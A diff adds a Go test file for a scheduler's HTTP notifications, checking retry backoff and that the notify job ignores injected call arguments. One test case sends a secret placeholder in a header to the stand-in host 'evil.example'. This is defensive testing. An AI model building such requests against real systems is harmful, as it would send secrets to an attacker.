@@ -1,0 +1,92 @@
+package httpjob_test
+
+import (
+	"net/http"
+	"sync/atomic"
+	"testing"
+	"testing/synctest"
+	"time"
+
+	"github.com/carillon-scheduler/carillon/jobs"
+	"github.com/carillon-scheduler/carillon/metastore"
+	"github.com/carillon-scheduler/carillon/ops"
+)
+
+// A notification that is not taken is sent again three times, every 20 s, and then ever more seldom until it is: the run
+// that it tells of is long over.
+func TestS2_45NotificationsAreSentUntilDelivered(t *testing.T) {
+	var tries atomic.Int32
+	far := outside(t, func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/told" && tries.Add(1) < 7 {
+			w.WriteHeader(http.StatusInternalServerError)
+		}
+	})
+	door := outside(t, http.NotFound)
+	synctest.Test(t, func(t *testing.T) {
+		p := &site{t: t, far: far, door: door}
+		defer p.start("")()
+		p.make("work", `{"request":[{"url":"FAR/x"}],"notification":[{"method":"POST","url":"FAR/told","stateEquals":"finalSucceed","body":"${schedulingNotifyBody}|json"}]}`, jobs.Settings{})
+		in := p.run("work", "")
+		if in.State != jobs.Succeeded {
+			t.Fatalf("%s %s", in.State, in.Error)
+		}
+		time.Sleep(time.Hour)
+		page, err := p.s.Ops().Instances(t.Context(), ops.Who{}, metastore.InstanceQuery{Parent: in.ID, Limit: 10})
+		if err != nil || len(page.Instances) != 1 {
+			t.Fatalf("%+v, %v", page, err)
+		}
+		told, err := p.s.Ops().Instance(t.Context(), ops.Who{}, page.Instances[0].ID)
+		if err != nil || told.State != jobs.Succeeded || told.Attempt != 7 {
+			t.Fatalf("%+v, %v", told, err)
+		}
+		want := []time.Duration{20 * time.Second, 20 * time.Second, 20 * time.Second, time.Minute, 2 * time.Minute, 4 * time.Minute}
+		var failed time.Time
+		for _, m := range told.Moves {
+			switch {
+			case m.State == jobs.Failed:
+				failed = m.At
+			case m.State == jobs.Processing && m.Attempt > 1:
+				if gap, want := m.At.Sub(failed), want[m.Attempt-2]; gap < want || gap > want+5*time.Second {
+					t.Errorf("attempt %d came %v after the last, want %v", m.Attempt, gap, want)
+				}
+			}
+		}
+	})
+}
+
+// Whoever may start runs may start one of the job that delivers notifications. It calls what a job says, and nothing that
+// stands in the arguments: those may ask for any secret, and for any host.
+func TestNotificationsThatNoJobHas(t *testing.T) {
+	var called atomic.Int32
+	far := outside(t, func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/x" {
+			called.Add(1)
+		}
+	})
+	door := outside(t, http.NotFound)
+	synctest.Test(t, func(t *testing.T) {
+		p := &site{t: t, far: far, door: door}
+		defer p.start("")()
+		p.make("work", `{"request":[{"url":"FAR/x"}],"notification":[{"method":"POST","url":"FAR/told","stateEquals":"200"}]}`, jobs.Settings{})
+		time.Sleep(time.Second) // the worker has registered what it serves
+		for name, call := range map[string]string{
+			"another host":       `{"method":"POST","url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}`,
+			"another header":     `{"method":"POST","url":"` + far.URL + `/told","headers":{"X":"${secret:KEY}"}}`,
+			"another path":       `{"method":"POST","url":"` + far.URL + `/else"}`,
+			"nothing":            `{}`,
+			"no call":            `"x"`,
+			"of a job's request": `{"url":"` + far.URL + `/x"}`,
+		} {
+			for _, of := range []string{"work", "nobody", "carillon.notify"} {
+				in := p.run("carillon.notify", `{"job":"`+of+`","state":"200","call":`+call+`,"system":{},"run":"01890000-0000-7000-8000-000000000001"}`)
+				if in.State != jobs.Terminated || in.Attempt != 1 || called.Load() != 0 {
+					t.Errorf("%s, of %s: %s after %d attempts, %d calls: %s", name, of, in.State, in.Attempt, called.Load(), in.Error)
+				}
+			}
+		}
+		in := p.run("carillon.notify", `{"job":"work","state":"200","call":{"method":"POST","url":"`+far.URL+`/told"},"system":{},"run":"01890000-0000-7000-8000-000000000001"}`)
+		if in.State != jobs.Succeeded || called.Load() != 1 {
+			t.Errorf("what the job says: %s, %d calls: %s", in.State, called.Load(), in.Error)
+		}
+	})
+}
